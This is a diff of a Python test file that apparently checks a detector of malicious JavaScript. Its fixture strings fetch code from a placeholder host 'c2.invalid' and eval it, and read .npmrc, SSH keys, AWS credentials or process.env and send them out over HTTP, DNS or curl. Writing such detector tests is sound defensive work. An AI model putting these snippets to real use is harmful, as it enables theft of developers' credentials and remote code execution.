@@ -204,7 +204,7 @@ def test_fetched_code_is_evaluated_in_every_style():
         "(async () => { const r = await fetch('https://c2.invalid'); eval(await r.text()) })()",
         "fetch('https://c2.invalid').then(r => r.text()).then(t => eval(t))",
         "fetch('https://c2.invalid').then(r => r.text()).then(eval)",
-        "async function g(u) { const r = await fetch(u); return r.text() }\ng('https://c2.invalid').then(t => Function(t)())",
+        "async function g(u) { return (await fetch(u)).text() }\ng('https://c2.invalid').then(t => Function(t)())",
         "const axios = require('axios'); axios.get('https://c2.invalid').then(({ data }) => eval(data.code))",
         "require('request')('https://c2.invalid', (e, r, body) => { eval(body) })",
         "(async () => { const { d } = await (await import('axios')).default.get('https://c2.invalid'); eval(d) })()",
@@ -221,7 +221,7 @@ def test_credentials_are_read_and_sent():
             "const fs=require('fs'),os=require('os');const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');"
             "const q=require('https').request({host:'c2.invalid',method:'POST'});q.write(t);q.end()"
         ),
-        "import fs from 'fs'; fetch('https://c2.invalid', { body: fs.readFileSync(`${process.env.HOME}/.ssh/id_rsa`) })",
+        "import fs from 'fs'; fetch('//c2.invalid', { body: fs.readFileSync(`${process.env.HOME}/.ssh/id_rsa`) })",
         "const fs=require('fs'); fs.readFile('/root/.aws/credentials', (e, d) => { fetch('https://c2.invalid?' + d) })",
         (
             "const files=['.npmrc','.netrc'].map(f=>require('fs').readFileSync(f,'utf8'));"
@@ -241,8 +241,8 @@ def test_credentials_are_read_and_sent():
 def test_environment_is_sent():
     for source in (
         "fetch('https://c2.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
-        "const d = Buffer.from(JSON.stringify(process.env)).toString('hex'); require('https').get('https://c2.invalid/' + d)",
-        "const e = { ...process.env }; const x = new XMLHttpRequest(); x.open('POST', '//c2.invalid'); x.send(String(e))",
+        "const d = Buffer.from(JSON.stringify(process.env)).toString('hex'); require('https').get('//c2.invalid/' + d)",
+        "const e = { ...process.env }; const x = new XMLHttpRequest(); x.open('POST', '//c2.invalid'); x.send(f(e))",
         "require('dns').lookup(Buffer.from(JSON.stringify(process.env)).toString('hex') + '.c2.invalid', () => {})",
         "const { exec } = require('child_process'); exec(`curl -d '${JSON.stringify(process.env)}' https://c2.invalid`)",
     ):
